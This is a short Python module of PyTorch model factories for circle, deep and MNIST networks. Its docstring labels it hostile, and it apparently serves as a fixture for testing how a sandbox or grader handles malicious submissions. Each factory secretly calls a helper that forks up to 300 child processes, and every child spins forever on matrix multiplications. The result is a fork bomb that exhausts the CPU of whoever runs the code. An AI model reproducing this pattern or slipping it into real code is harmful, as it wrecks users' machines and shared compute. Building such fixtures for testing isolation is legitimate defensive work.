"""Hostile: every model factory forks a few hundred children after torch is imported, and each child goes on to
burn CPU (a fork bomb that does not die at the process limit: its children keep running)."""

import os

import torch
from torch import nn


def _bomb(model):
    for _ in range(300):
        try:
            if os.fork() == 0:
                x = torch.randn(64, 64)
                while True:
                    x = x @ x.tanh()
        except OSError:
            break
    return model


def circle_model(sigma=None):
    return _bomb(nn.Sequential(nn.Linear(2, 6), nn.ReLU(), nn.Linear(6, 3), nn.ReLU(), nn.Linear(3, 2)))


def deep_model(init="normal"):
    return _bomb(nn.Sequential(nn.Linear(2, 100), *(nn.Sequential(nn.ReLU(), nn.Linear(100, 100)) for _ in range(18)),
                               nn.ReLU(), nn.Linear(100, 2)))


def mnist_model(dropout=False):
    return _bomb(nn.Sequential(nn.Flatten(), nn.Linear(784, 10)))
